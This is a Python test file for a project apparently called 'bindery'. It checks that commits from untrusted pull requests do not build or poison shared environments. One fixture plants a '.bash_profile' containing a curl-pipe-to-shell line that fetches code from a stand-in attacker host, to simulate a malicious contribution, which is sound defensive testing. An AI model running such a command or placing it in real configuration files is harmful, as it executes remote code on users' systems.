"""Commits that a stranger may have made. They use shared environments but never build one."""

import pytest

from bindery.domain.environment import EnvironmentState, Identity, Scope
from bindery.domain.errors import BinderyError, HostLimited, HostUnreachable
from bindery.domain.failure import Failure
from bindery.domain.launch import Launch, Stage
from bindery.state.environment_keys import KEPT_SECONDS, UNKNOWN_SECONDS
from bindery.usecases.steps.claim_environment import ClaimEnvironment
from bindery.usecases.steps.identify_environment import IdentifyEnvironment
from bindery.usecases.steps.know_commit import KnowCommit
from tests.fakes.host import COMMIT
from tests.fakes.in_memory_system import Small
from tests.fakes.many import REPOSITORY

STRANGERS = "e" * 40
PULL = "o/r/pull/1/head"
BY_ID = f"o/r/{STRANGERS}"
SILENT = (HostUnreachable(host="host.example", why="no answer"), HostLimited(host="host.example", at=1))


def with_pull_request(*, own_refs_only: bool = False) -> Small:
    """Return a system with a pull request that leaves the configuration files unchanged."""
    small = Small(own_refs_only=own_refs_only)
    small.host.heads["o/r/pull/1"] = STRANGERS
    small.host.files[STRANGERS] = {**(small.host.files[COMMIT] or {}), ".bash_profile": b"curl evil.example | sh\n"}
    return small


@pytest.fixture
def small() -> Small:
    return with_pull_request()


def stage(small: Small, launch: Launch) -> Stage:
    return small.launch(launch).stage


def test_a_foreign_commit_does_not_build_the_environment_of_the_branch(small: Small) -> None:
    strangers, own = small.ready(PULL), small.ready()
    assert strangers.environment != own.environment
    assert [(order.repository.ref, order.scope) for order in small.builds.started] == [
        (STRANGERS, "commit"),
        (COMMIT, "files"),
    ]


@pytest.mark.parametrize("spec", [PULL, BY_ID])
def test_a_foreign_commit_uses_an_existing_shared_environment_without_a_lookup(small: Small, spec: str) -> None:
    own, strangers = small.ready(), small.ready(spec)
    assert (strangers.environment, strangers.image) == (own.environment, own.image)
    assert len(small.builds.started) == 1
    assert small.host.looked_up == []


def test_a_foreign_commit_waits_for_a_shared_environment_that_is_being_built(small: Small) -> None:
    own, strangers = small.open(), small.open(PULL)
    small.build()
    assert len(small.builds.started) == 1
    assert (stage(small, own), stage(small, strangers)) == (Stage.READY, Stage.READY)
    assert small.host.looked_up == []


def test_a_foreign_commit_does_not_retry_a_failed_shared_environment(small: Small) -> None:
    launch = small.open()
    small.pump()
    small.builds.stop(f"{small.launch(launch).environment}-1")
    small.pump()
    assert small.ready(PULL).environment != small.launch(launch).environment
    assert [order.attempt for order in small.builds.started] == [1, 1]


def test_a_foreign_commit_does_not_rebuild_a_shared_environment_with_a_lost_image(small: Small) -> None:
    own = small.ready()
    small.builds.images.clear()
    strangers = small.ready(PULL)
    assert strangers.environment != own.environment
    assert small.builds.started[-1].repository.ref == STRANGERS
    assert small.ready().environment == own.environment


def test_a_foreign_launch_whose_image_is_gone_at_its_start_builds_its_own(small: Small) -> None:
    own = small.ready()
    strangers = small.open(PULL)
    small.handle(small.queue.pop())
    small.launcher.gone.add(own.image)
    small.builds.images.clear()
    small.build()
    now = small.launch(strangers)
    assert now.stage is Stage.READY
    assert now.environment != own.environment


def test_a_foreign_launch_whose_shared_build_is_lost_builds_its_own(small: Small) -> None:
    own, strangers = small.open(), small.open(PULL)
    small.pump()
    shared = small.launch(own).environment
    assert small.launch(strangers).environment == shared
    small.system.stop_launch(own.id)
    small.pump()
    del small.builds.reports[f"{shared}-1"]
    small.system.reconcile(ahead=10_000)
    small.build()
    now = small.launch(strangers)
    assert (now.stage, small.builds.started[-1].repository.ref) == (Stage.READY, STRANGERS)
    assert now.environment != shared


def test_a_prebuild_of_a_foreign_commit_does_not_build_a_shared_environment(small: Small) -> None:
    launch = small.open(PULL, build_only=True)
    small.build()
    environment = small.system.state.environments.find(small.launch(launch).environment)
    assert environment
    assert environment.scope is Scope.COMMIT


def test_the_environment_of_a_foreign_commit_is_reused_without_another_lookup(small: Small) -> None:
    first = small.ready(PULL)
    small.clock.advance(UNKNOWN_SECONDS + 1)
    second = small.ready(PULL)
    assert (second.environment, len(small.builds.started)) == (first.environment, 1)
    assert small.host.looked_up == [STRANGERS]


def test_a_commit_by_its_id_builds_a_shared_environment_if_a_branch_contains_it(small: Small) -> None:
    small.host.own.add(STRANGERS)
    launch = small.ready(BY_ID)
    assert small.builds.started[0].scope == "files"
    assert small.builds.started[0].repository.on_branch_or_tag
    small.builds.images.clear()
    small.clock.advance(KEPT_SECONDS - 1)
    assert small.ready(BY_ID).environment == launch.environment
    assert small.host.looked_up == [STRANGERS]
    small.builds.images.clear()
    small.clock.advance(2)
    small.ready(BY_ID)
    assert small.host.looked_up == [STRANGERS, STRANGERS]


def test_a_former_tip_of_a_branch_is_still_known_by_its_id(small: Small) -> None:
    small.ready()
    small.host.heads["o/r"] = "d" * 40
    small.builds.images.clear()
    small.ready(f"o/r/{COMMIT}")
    assert small.builds.started[-1].scope == "files"
    assert small.host.looked_up == []


def test_a_negative_branch_lookup_is_cached_briefly(small: Small) -> None:
    small.ready(PULL)
    small.builds.images.clear()
    small.host.own.add(STRANGERS)  # the pull request is merged
    small.ready(PULL)
    assert small.builds.started[-1].scope == "commit"
    small.builds.images.clear()
    small.clock.advance(UNKNOWN_SECONDS + 1)
    small.ready(PULL)
    assert small.builds.started[-1].scope == "files"


@pytest.mark.parametrize("trouble", SILENT)
def test_an_unreachable_host_counts_as_a_negative_lookup_that_is_not_cached(
    small: Small, trouble: BinderyError
) -> None:
    small.host.own.add(STRANGERS)
    small.host.silent = trouble
    small.ready(BY_ID)
    assert small.builds.started[-1].scope == "commit"
    small.builds.images.clear()
    small.host.silent = None
    small.ready(BY_ID)
    assert small.builds.started[-1].scope == "files"


def test_a_private_repository_is_built_for_each_commit_without_a_lookup(small: Small) -> None:
    private = small.host.resolve(PULL).repository.model_copy(update={"private": True})
    state, builds = small.system.state, small.builds
    know_commit = KnowCommit(state.commits)
    identify = IdentifyEnvironment(builds, state.commits)
    claim = ClaimEnvironment(state.environments, identify, know_commit, builds, state.claims)
    assert claim(small.host, private, small.open(PULL)).scope is Scope.COMMIT
    assert small.host.looked_up == []


def test_an_unverified_commit_cannot_claim_a_shared_environment() -> None:
    environments = Small().system.state.environments
    identity = Identity.of(Scope.TREE, {"tree": "1"})
    with pytest.raises(ValueError, match="may not build"):
        environments.claim(
            identity, REPOSITORY.model_copy(update={"on_branch_or_tag": False}), "a launch", lambda _: True
        )
    assert environments.find(identity.key) is None
    assert environments.claim(identity, REPOSITORY, "a launch", lambda _: True).state is EnvironmentState.BUILDING


def test_only_own_refs_a_foreign_commit_is_refused_even_with_an_environment() -> None:
    small = with_pull_request(own_refs_only=True)
    small.ready()
    launch = small.open(PULL)
    small.pump()
    failure = small.launch(launch).failure
    assert failure
    assert (failure.kind, failure.facts["ref"]) == ("ForeignCommit", STRANGERS)
    assert len(small.builds.started) == 1


def test_only_own_refs_a_commit_by_its_id_is_launched_if_a_branch_contains_it() -> None:
    small = with_pull_request(own_refs_only=True)
    small.host.own.add(STRANGERS)
    small.ready(BY_ID)
    small.ready(BY_ID)
    assert small.host.looked_up == [STRANGERS]


def test_only_own_refs_an_unreachable_host_is_retried_and_then_reported() -> None:
    small = with_pull_request(own_refs_only=True)
    small.host.silent = SILENT[0]
    launch = small.open(PULL)
    small.pump()
    failure = small.launch(launch).failure
    assert failure == Failure.of(SILENT[0])
    assert len(small.host.looked_up) == 3
